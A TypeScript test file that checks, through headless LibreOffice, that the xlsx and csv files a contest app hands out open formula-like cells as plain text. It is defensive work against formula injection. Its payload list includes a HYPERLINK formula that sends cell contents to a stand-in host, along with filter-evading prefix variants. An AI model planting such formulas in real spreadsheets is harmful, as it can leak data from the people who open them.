import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';

import { strToU8 } from 'fflate';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';

import { present } from '../../shared/basics/assert.ts';
import { settingsFromTemplate } from '../../shared/contest/templates.ts';
import { looksLikeFormula } from '../../shared/documents/spreadsheet-text.ts';
import { tableCsv, tableXlsx } from '../../shared/documents/table-file.ts';
import { readWorkbook } from '../../shared/intake/read-table.ts';
import { refusedWorkbook } from '../../shared/intake/refused-workbook.ts';
import { cellText, type Cell } from '../../shared/intake/table.ts';

const run = promisify(execFile);

const isInstalled = (process.env['PATH'] ?? '')
  .split(delimiter)
  .some((folder) => existsSync(join(folder, 'soffice')));
const reason = isInstalled ? '' : ' (skipped without soffice)';

/** What spreadsheets take for the beginning of a formula, and what an attacker would write behind it. */
const dangerous = [
  '=1+1',
  '=HYPERLINK("http://example.test?x="&A1;"Ашу")',
  '+7+8',
  '-2+3',
  '@SUM(1;2)',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
];

/** Line ends and tabs come back from a program as it likes to write them; what stands between them must be the same. */
const seen = (text: string): string => text.replace(/\s+/g, ' ').trim();

const refused = (): Promise<Uint8Array> =>
  refusedWorkbook(
    { sheet: '', rows: [['Название'], ...dangerous.map((text) => [text])], merged: new Set() },
    0,
    dangerous.map((_, index) => ({
      row: index + 2,
      status: 'faulty',
      submission: null,
      texts: {},
      faults: [{ type: 'CellError', code: '=1+1', field: 'title', column: 0 }],
      warnings: [],
    })),
    {
      language: 'ru',
      settings: settingsFromTemplate('expo', { season: '2026', demo: false }),
      texts: { 'faults.CellError': '{{code}}' },
      fields: { title: '=1+1' },
    },
  );

const shown = {
  title: 'Тізім',
  columns: [{ title: 'Атауы', width: 40, numeric: false }],
  rows: dangerous.map((text) => [text]),
};

/** Each file as it is handed out, and how LibreOffice is told to open it. */
const files = {
  'refused.xlsx': { bytes: refused, open: [] },
  'shown.xlsx': { bytes: () => tableXlsx(shown), open: [] },
  'shown.csv': {
    bytes: async () => strToU8(tableCsv(shown)),
    open: ['--infilter=CSV:59,34,76,1'],
  },
} as const;

const names = Object.keys(files) as (keyof typeof files)[];

describe.skipIf(!isInstalled)(`cells in LibreOffice${reason}`, () => {
  let folder = '';

  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), 'qazylar-cells-'));
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`;
    for (const name of names) await writeFile(join(folder, name), await files[name].bytes());
    // Workbooks together: what takes long is the program's start.
    for (const kind of ['.xlsx', '.csv']) {
      const given = names.filter((name) => name.endsWith(kind));
      const open = given.flatMap((name) => files[name].open);
      const out = ['--convert-to', 'xlsx', '--outdir', join(folder, kind)];
      const paths = given.map((name) => join(folder, name));
      await run('soffice', [profile, '--headless', ...open, ...out, ...paths]);
    }
  }, 240_000);

  afterAll(() => rm(folder, { recursive: true, force: true }));

  /** First cells of what the program saved after it had opened a file. */
  async function opened(name: string): Promise<readonly Cell[]> {
    const [stem = '', kind = ''] = name.split('.');
    const saved = join(folder, `.${kind}`, `${stem}.xlsx`);
    const read = readWorkbook(new Uint8Array(await readFile(saved)));
    if (!read.ok) throw new Error(read.error.type);
    const [, ...rows] = present(read.value.tables[0], 'a sheet').rows;
    return rows.map((cells) => cells[0] ?? null);
  }

  test.each(names)('%s: what looks like a formula opens as text', async (name) => {
    const cells = await opened(name);
    const marked = name.endsWith('.csv');
    expect(cells.map((cell) => seen(cellText(cell)))).toEqual(
      dangerous.map((text) => seen(marked && looksLikeFormula(text) ? `'${text}` : text)),
    );
    for (const cell of cells) expect(typeof cell).toBe('string');
  });
});
